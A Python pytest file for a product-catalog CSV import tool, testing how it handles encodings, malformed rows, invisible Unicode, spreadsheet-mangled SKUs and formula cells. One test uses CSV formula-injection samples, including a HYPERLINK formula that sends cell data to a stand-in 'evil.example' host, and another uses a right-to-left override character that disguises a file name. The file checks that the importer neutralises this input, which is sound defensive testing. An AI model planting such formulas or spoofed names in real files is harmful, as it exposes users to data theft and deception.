"""`catalog import` of files as people export them."""

import contextlib
import csv
from collections.abc import Iterator
from pathlib import Path

import attrs
import pytest

from shared_kernel.runtime.running import RunningServices
from tests.catalog.listings import listed
from tests.storehouses import a_storehouse, run

FILES = Path(__file__).parents[1] / "data" / "files"


@attrs.frozen
class Shop:
    storehouse: RunningServices
    folder: Path

    @property
    def refused(self) -> Path:
        return self.folder / "refused.csv"

    def imports(self, file: str | Path, *options: str) -> tuple[int, str]:
        """The exit code and the output."""
        catalog, path = self.storehouse.context("catalog"), FILES / file
        result = run(catalog.cli, "import", path, "--refused", self.refused, *options)
        return result.exit_code, result.output

    def gives_again_what_was_refused(self) -> tuple[str, str]:
        """What was refused before, and then."""
        again, before = self.folder / "again.csv", self.refused.read_text("utf-8")
        self.refused.rename(again)
        _, output = self.imports(again)
        assert "again.csv: 0 registered, 0 skipped" in output
        return before, self.refused.read_text("utf-8")

    @property
    def names(self) -> dict[str, str]:
        """Of all that are listed, by SKU."""
        return {p["code"]: p["name"] for p in listed(self.storehouse)}


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    with contextlib.ExitStack() as stack:
        yield Shop(stack.enter_context(a_storehouse(tmp_path)), tmp_path)


def test_whatever_separates_ends_marks_and_names_columns_all_is_registered(
    shop: Shop,
) -> None:
    for file, count in (
        ("01-bom.csv", 1),
        ("04-semicolon.csv", 1),
        ("09-caps.csv", 1),
        ("32-cr-only.csv", 2),
        ("34-trailing-columns.csv", 2),
    ):
        code, output = shop.imports(file)
        assert (code, f"{count} registered, 0 skipped, 0 refused" in output) == (
            0,
            True,
        )

    assert sorted(shop.names) == [
        *("BOM-1", "CR-1", "CR-2", "DE-1", "H-1", "TC-1", "TC-2")
    ]


def test_another_encoding_is_refused_by_its_byte_until_it_is_named(shop: Shop) -> None:
    code, output = shop.imports("05-latin1.csv")
    assert code == 2
    assert "line 2 is not UTF-8 (byte 0xe9)" in output
    assert "--encoding cp1252" in output

    assert shop.imports("05-latin1.csv", "--encoding", "cp1252")[0] == 0
    assert shop.names == {"L1-1": "Café table"}


def test_skus_that_look_like_numbers_stay_as_they_are(shop: Shop) -> None:
    code, output = shop.imports("02-zeros.csv")

    assert (code, sorted(shop.names)) == (0, ["0017", "1.23E+11", "90.750"])
    assert "a spreadsheet may have made of long numbers" in output
    assert "as they stand: row 4" in output


def test_skus_of_others_are_registered_and_the_same_ones_refused(
    shop: Shop,
) -> None:
    code, output = shop.imports("03-skus.csv")

    assert (code, list(shop.names)) == (
        1,
        [
            "123456 Oaktree",
            "AB/12-X",
            "ÄPFEL-1",
            "abc-1",
            "SKU123",
            "NB-1",
            "#77",
            "(M)-5",
        ],
    )
    assert (
        "row 6: ABC-1: ABC-1 is the same as abc-1, which is already registered as "
        "'lower'\n"
    ) in output
    assert "row 8: SKU123: SKU123 is already registered as 'Trailing'" in output


def test_names_that_nobody_can_see_are_refused_by_name(shop: Shop) -> None:
    code, output = shop.imports("37-invisible.csv")

    assert (code, list(shop.names)) == (1, ["NB-1", "NB\u2011 3"])
    for row, fault in {
        3: "sku is '\\u200bNB-2', expected 1 to 64 visible characters, with single "
        "spaces within: it has U+200B",
        5: "name is '\\u200b', expected 1 to 200 characters without control "
        "characters: nothing of it can be seen",
        6: "name is '\\u202egnp.txt', expected 1 to 200 characters without control "
        "characters: it has U+202E, which changes the order of what is read",
        7: "name is '', expected 1 to 200 characters",
        8: "sku is '\\u2060NB-7', expected",
        9: "sku is '\\xadNB-8', expected",
    }.items():
        assert f"row {row}: " in output
        assert fault in output


def test_counts_are_read_as_people_write_them_or_refused(shop: Shop) -> None:
    code, output = shop.imports("13-stock.csv")

    assert (code, list(shop.names)) == (1, ["Q-1", "Q-4", "Q-5"])
    assert "row 4: Q-3: stock_count is '1,000', expected 1000 or 1, as digits" in output
    for refused in ("row 3: Q-2: stock_count is '-1'", "row 7: Q-6:", "row 8: Q-7:"):
        assert refused in output


@pytest.mark.parametrize(
    ("file", "registered", "refused"),
    [
        (
            "08-ragged.csv",
            ["R-1", "R-4"],
            [
                ["R-2", "Two"],
                ["R-3", "Three", "x", "extra"],
                [";;;;"],
                ["R-5", "Tail", "", ""],
            ],
        ),
        (
            "30-quote-never-closed.csv",
            sorted(f"UQ-{number}" for number in range(1, 13) if number != 2),
            [['UQ-2,Screen,"15 inch screen, matt']],
        ),
        ("31-comma-in-name.csv", [], [["RG-1", "Lamp", " brass", "warm light"]]),
        ("31-inch-marks.csv", ["IN-1", "IN-3", "IN-4"], [['IN-2,"19" monitor"']]),
    ],
)
def test_of_a_damaged_file_no_row_is_lost_and_none_is_taken_unmended(
    shop: Shop, file: str, registered: list[str], refused: list[list[str]]
) -> None:
    code, output = shop.imports(file)

    assert code == 1
    assert f"{len(registered)} registered, 0 skipped, {len(refused)} refused" in output
    assert sorted(shop.names) == registered
    assert cells_of(shop.refused) == refused
    before, then = shop.gives_again_what_was_refused()
    assert before == then


def test_names_that_a_spreadsheet_has_dressed_are_unwrapped_or_refused(
    shop: Shop,
) -> None:
    code, output = shop.imports("36-excel-text.csv")

    assert (code, sorted(shop.names)) == (1, ["0017", "0019"])
    assert (
        "row 3: '0018: sku is \"'0018\", expected '0018' without the ' of a "
        "spreadsheet; if it belongs to the name, ''0018"
    ) in output
    before, then = shop.gives_again_what_was_refused()
    assert before == then


def test_what_was_refused_runs_nothing_and_is_mended_to_exactly_the_given_names(
    shop: Shop,
) -> None:
    code, output = shop.imports("38-formula.csv")
    assert (code, shop.names) == (1, {})
    assert "row 2: FX-1: stock_count is 'x'" in output
    assert all(
        cell[:1] not in "=+-@" for row in cells_of(shop.refused) for cell in row if cell
    )

    mended = shop.folder / "mended.csv"
    text = shop.refused.read_text("utf-8")
    for count in "xyz":
        text = text.replace(f",{count},", ",1,")
    mended.write_text(text, "utf-8")
    shop.imports(mended)

    assert shop.names == {
        "FX-1": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "FX-2": "@SUM(1+1)",
        "FX-3": "-2+3",
    }


def test_a_cell_of_any_length_is_refused_whole_and_its_reason_is_short(
    shop: Shop,
) -> None:
    name, file = "x" * 1_500_000, shop.folder / "long.csv"
    file.write_text(f'sku,name\nLONG-1,"{name}"\nLAMP-1,Lamp\n', "utf-8")

    _, output = shop.imports(file)

    assert "1 registered, 0 skipped, 1 refused" in output
    assert "(1,500,000 characters), expected 1 to 200 characters" in output
    assert cells_of(shop.refused) == [["LONG-1", name]]


def cells_of(refused: Path) -> list[list[str]]:
    """The rows, without their reasons."""
    csv.field_size_limit(2**24)
    with refused.open(encoding="utf-8", newline="") as file:
        _, *rows = csv.reader(file)
    return [row[:-1] for row in rows]
